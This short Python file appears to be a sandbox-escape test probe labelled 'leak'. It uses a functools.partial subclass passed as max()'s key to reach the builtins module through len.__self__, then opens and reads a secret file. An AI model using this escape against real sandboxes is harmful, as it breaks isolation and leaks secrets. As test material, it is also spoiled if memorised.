# effect: leak
# note: max hands each name to the key function
import functools


def attempt(probe):
    found = []

    class Watch(functools.partial):
        def __call__(self, name):
            found.append(getattr(len, name))
            return 0

    max(["__self__"], key=Watch(getattr))
    return found[0].open(probe["secret_file"]).read()
